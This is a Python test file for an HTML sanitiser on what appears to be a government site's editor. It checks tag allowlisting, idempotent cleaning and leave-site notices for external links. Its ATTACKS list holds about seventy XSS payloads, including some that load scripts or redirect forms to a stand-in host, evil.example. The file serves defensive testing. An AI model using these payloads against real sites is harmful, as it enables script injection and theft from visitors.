"""Text from editors: what is kept is on a list, whatever the attack; what officials write stays."""

from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st

from core.richtext import ATTRIBUTES, CLASSES, TAGS, from_text, plain_text, sanitise, with_leave_notice
from tests.conftest import examples, make_information

ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x00>alert(1)</script>",
    "<script/xss>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x oNeRrOr=alert(1)>",
    "<img src=`x` onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src='x'onerror='alert(1)'>",
    '<img src="javascript:alert(1)">',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<img """><script>alert(1)</script>">',
    "<img src=x:alert(alt) onerror=eval(src) alt=1>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='java&#x0A;script:alert(1)'>x</a>",
    "<a href='&#106;&#97;vascript:alert(1)'>x</a>",
    "<a href='&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='blob:https://x/y'>x</a>",
    "<a href='#' onclick='alert(1)' onmouseover=alert(1)>x</a>",
    "<a href='x' style='background:url(javascript:alert(1))' target=_blank>x</a>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href='javascript:alert(1)'>x</math>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='javascript:alert(1)'></object>",
    "<embed src='javascript:alert(1)'>",
    "<form action='//evil.example'><input name=password><button formaction='javascript:alert(1)'>x</button></form>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href='//evil.example/'>",
    "<link rel=stylesheet href='//evil.example/x.css'>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style><img src=x onerror=alert(1)></style>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<div id=page class='masthead evil center' data-x=1>x</div>",
    "<body onload=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<table background='javascript:alert(1)'><tr><td background='javascript:alert(1)'>x</td></tr></table>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><script>alert(1)</script></template>",
    "<title><img src=x onerror=alert(1)></title>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<a title='\"><script>alert(1)</script>' href='x'>x</a>",
    "<td colspan='2' onmouseenter=alert(1)>x</td>",
    "</p></div></body><script>alert(1)</script>",
    "<p>a</p\n><script\n>alert(1)</script\n>",
]


class Checker(HTMLParser):
    """Notes whatever a browser would find that is not on the list."""

    def __init__(self):
        super().__init__()
        self.wrong = []

    def handle_starttag(self, tag, attrs):
        if tag not in TAGS:
            self.wrong.append(tag)
        for name, value in attrs:
            if name == "class":
                self.wrong += sorted(set((value or "").split()) - CLASSES)
            elif name not in ATTRIBUTES.get(tag, ()):
                self.wrong.append(f"{tag} {name}")
            elif name in ("href", "src"):
                scheme, colon, _ = (value or "").partition(":")
                if colon and "/" not in scheme and scheme.lower() not in ("http", "https", "mailto", "tel"):
                    self.wrong.append(value)

    def handle_comment(self, data):
        self.wrong.append(f"<!--{data}")

    def handle_decl(self, decl):
        self.wrong.append(decl)

    handle_pi = unknown_decl = handle_decl


def wrong(html):
    checker = Checker()
    checker.feed(html)
    checker.close()
    return checker.wrong


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_is_left_of_an_attack(attack):
    clean = sanitise(attack)
    assert wrong(clean) == []
    assert "evil.example" not in clean


@pytest.mark.parametrize("attack", ATTACKS)
def test_what_was_cleaned_stays_clean(attack):
    once = sanitise(f"<p>前</p>{attack}<p>后</p>")
    assert sanitise(once) == once
    assert wrong(once) == []


@hypothesis_settings(deadline=None, max_examples=examples(200))
@given(
    st.lists(
        st.sampled_from([*ATTACKS, "<p>", "</p>", "<", ">", '"', "'", "&", "<td>", "文"]), max_size=6
    ).map("".join)
)
def test_attacks_joined_together_leave_nothing_either(html):
    assert wrong(sanitise(html)) == []


def test_there_are_enough_attacks():
    assert len(set(ATTACKS)) >= 40


@pytest.mark.parametrize(
    "html",
    [
        '<h2 class="center">第一章　总则</h2>',
        '<p class="right">杏川镇人民政府</p>',
        '<table><caption>补贴标准</caption><thead><tr><th scope="col">村</th></tr></thead>'
        '<tbody><tr><td colspan="2" rowspan="2">柳堰</td></tr></tbody></table>',
        '<ol start="3"><li>三</li></ol>',
        '<p><a href="https://www.gov.cn/zhengce/" title="国务院">链接</a> '
        '<a href="/policies/3/">本站</a> <a href="mailto:a@b.cn">邮箱</a></p>',
        '<img src="/media/a.png" alt="图" width="10" height="20">',
        "<p>H<sub>2</sub>O m<sup>2</sup> <strong>粗</strong><u>线</u></p>",
    ],
)
def test_what_documents_need_is_kept(html):
    assert sanitise(html) == html


def test_paragraphs_without_words_are_dropped():
    assert sanitise("<p>一</p><p>&nbsp;</p><p><br></p><p>二</p>") == "<p>一</p><p>二</p>"


@pytest.mark.parametrize("empty", ["", None, " ", "<script>1</script>"])
def test_nothing_gives_nothing(empty):
    assert sanitise(empty) == ""


def test_text_is_cleaned_whatever_way_it_is_saved(department, drafter):
    record = make_information(department, drafter, body="<p onclick=alert(1)>一</p><script>alert(1)</script>")
    assert record.body == "<p>一</p>"
    record.refresh_from_db()
    assert record.body == "<p>一</p>"


# Plain text ------------------------------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("html", "text"),
    [
        ("<p>一</p><p>二</p>", "一\n二"),
        ("一<br>二", "一\n二"),
        ("<table><tr><td>138</td><td>1234</td></tr></table>", "138\t1234\t"),
        ("<p>1&lt;2 &amp; 3&nbsp;4</p>", "1<2 & 3 4"),
        ("<p>连<strong>在</strong>一起</p>", "连在一起"),
        ("", ""),
        (None, ""),
    ],
)
def test_plain_text_keeps_lines_and_cells_apart(html, text):
    assert plain_text(html) == text


@given(st.text(alphabet=st.characters(blacklist_categories=("Cs", "Cc", "Zs", "Zl", "Zp")), min_size=1))
def test_text_becomes_paragraphs_and_text_again(text):
    assert plain_text(from_text(text)) == text


# Links that lead away --------------------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("link", "target"),
    [
        (
            '<a href="https://evil.example/a?b=1&amp;c=2">x</a>',
            "https%3A%2F%2Fevil.example%2Fa%3Fb%3D1%26c%3D2",
        ),
        ('<a href="HTTP://evil.example">x</a>', "HTTP%3A%2F%2Fevil.example"),
        ('<a title="点这里" href="https://evil.example">x</a>', "https%3A%2F%2Fevil.example"),
        ('<a href="//evil.example/a">x</a>', "https%3A%2F%2Fevil.example%2Fa"),
        ('<a href="https://evil.example/.gov.cn">x</a>', "https%3A%2F%2Fevil.example%2F.gov.cn"),
    ],
)
def test_a_link_to_strangers_leads_through_the_notice(link, target):
    shown = with_leave_notice(sanitise(link), "/leave/")
    assert f'href="/leave/?to={target}"' in shown
    assert 'rel="noopener"' in shown


@pytest.mark.parametrize(
    "address",
    [
        "https://www.gov.cn@evil.example/",
        "https://evil.example\\@x.gov.cn/",
        "https:/evil.example/",
        "//[bad",
        "https:",
    ],
)
def test_an_address_that_could_be_read_in_two_ways_leads_nowhere(address):
    shown = with_leave_notice(sanitise(f'<a href="{address}">x</a>'), "/leave/")
    assert "href" not in shown


@pytest.mark.parametrize("href", ["https://www.shandong.gov.cn/a", "http://xihu.gov.cn"])
def test_a_link_to_a_government_leads_there(href):
    assert f'href="{href}" rel="noopener"' in with_leave_notice(f'<a href="{href}">x</a>', "/leave/")


@pytest.mark.parametrize(
    "link",
    [
        '<a href="/policies/3/">x</a>',
        '<a href="#t1">x</a>',
        '<a href="mailto:a@b.cn">x</a>',
        '<a href="tel:12345">x</a>',
    ],
)
def test_our_own_links_stay_as_they_are(link):
    assert with_leave_notice(link, "/leave/") == link


@given(st.text(max_size=40))
def test_no_address_breaks_the_page(address):
    with_leave_notice(sanitise(f'<p><a href="https://{address}">x</a></p>'), "/leave/")
